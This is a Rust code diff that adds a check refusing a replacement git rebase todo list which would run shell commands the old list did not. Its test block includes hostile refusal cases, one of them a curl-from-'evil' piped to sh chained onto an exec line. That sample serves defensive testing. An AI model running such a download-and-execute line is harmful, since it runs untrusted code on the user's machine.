@@ -52,13 +52,28 @@ pub enum ContentCheck {
         /// The repository's object names.
         format: ObjectFormat,
     },
+    /// An interactive rebase's list of what is left to do, which `git
+    /// rebase --continue` carries out where the user runs it: an `exec`
+    /// line is a shell command. The new list runs no command the list it
+    /// replaces did not (git drops each line it has done; a new list runs
+    /// none).
+    RebaseTodo,
 }
 
 impl ContentCheck {
     /// Whether the check compares the new content with the file it
-    /// replaces (which then may not be removed or renamed away either:
-    /// that would drop what the next one is compared with).
+    /// replaces.
     pub fn compares_with_previous(&self) -> bool {
+        matches!(
+            self,
+            ContentCheck::GitIndex { .. } | ContentCheck::RebaseTodo
+        )
+    }
+
+    /// Whether the file may not be removed or renamed away either: that
+    /// would drop what the next one is compared with (a removed rebase
+    /// list is replaced by a new one, which may run nothing).
+    fn keeps_previous(&self) -> bool {
         matches!(self, ContentCheck::GitIndex { .. })
     }
 
@@ -77,6 +92,24 @@ impl ContentCheck {
                 };
                 super::git_index::verify(content, replacing.previous, *format, &tree)
             }
+            ContentCheck::RebaseTodo => {
+                let mut allowed = rebase_commands(replacing.previous.unwrap_or_default());
+                for command in rebase_commands(content) {
+                    match allowed.iter().position(|known| *known == command) {
+                        Some(at) => {
+                            allowed.swap_remove(at);
+                        }
+                        None => {
+                            return Err(format!(
+                                "it would run `{}` at the next `git rebase --continue`, \
+                                 which the list it replaces did not",
+                                String::from_utf8_lossy(command)
+                            ));
+                        }
+                    }
+                }
+                Ok(None)
+            }
             ContentCheck::NoReplaceRefs => {
                 // `<object id> <ref name>` lines, `^<id>` peeled lines and a
                 // `#` header: a ref name is the second field.
@@ -93,6 +126,26 @@ impl ContentCheck {
             }
         }
     }
+}
+
+/// The shell commands of a rebase list: the rest of each `exec` (or `x`)
+/// line, as git reads the command word (after blanks, followed by a blank
+/// or the line's end).
+fn rebase_commands(list: &[u8]) -> Vec<&[u8]> {
+    let blank = |b: &u8| *b == b' ' || *b == b'\t';
+    list.split(|&b| b == b'\n')
+        .filter_map(|line| {
+            let line = line.strip_suffix(b"\r").unwrap_or(line);
+            let start = line.iter().position(|b| !blank(b))?;
+            let line = &line[start..];
+            let word = line.iter().position(blank).unwrap_or(line.len());
+            matches!(&line[..word], b"exec" | b"x").then(|| {
+                let rest = &line[word..];
+                let skip = rest.iter().position(|b| !blank(b)).unwrap_or(rest.len());
+                &rest[skip..]
+            })
+        })
+        .collect()
 }
 
 /// What a verified file's new content is checked against.
@@ -255,7 +308,7 @@ impl Protection {
         let path = change.path();
         if let Some(file) = self.verification(path) {
             let drops_it = matches!(change, Change::Remove(_) | Change::RenameFrom(_))
-                && file.check.compares_with_previous();
+                && file.check.keeps_previous();
             return (change.writes_in_place() || drops_it).then(|| {
                 format!(
                     "cannot {} {}: it changes only by a rename guard checks ({})",
@@ -289,6 +342,36 @@ impl Protection {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_rebase_list_runs_no_command_the_one_it_replaces_did_not() {
+        let protection = Protection::default();
+        let check = |previous: Option<&str>, new: &str| {
+            let replacing = Replacing {
+                previous: previous.map(str::as_bytes),
+                protection: &protection,
+                read: &|_| WorkTreeFile::Missing,
+            };
+            ContentCheck::RebaseTodo.check(new.as_bytes(), &replacing)
+        };
+        let list = "pick 1a2b3c one\nexec make test\npick 4d5e6f two\nx make test\n";
+        // git drops what it has done; comments and other commands are free.
+        assert!(check(Some(list), "pick 4d5e6f two\nx make test\n# note\nbreak\n").is_ok());
+        assert!(check(Some(list), list).is_ok());
+        assert!(check(None, "pick 1a2b3c one\nbreak\n").is_ok());
+        for refused in [
+            (None, "pick 1a2b3c one\nexec touch /tmp/x\n"),
+            (None, "  \tx\ttouch /tmp/x"),
+            (
+                Some(list),
+                "exec make test\nexec make test\nexec make test\n",
+            ),
+            (Some(list), "exec make test && curl evil | sh\n"),
+        ] {
+            let refusal = check(refused.0, refused.1).unwrap_err();
+            assert!(refusal.contains("git rebase --continue"), "{refusal}");
+        }
+    }
 
     #[test]
     fn the_files_git_trusts_in_its_object_store() {
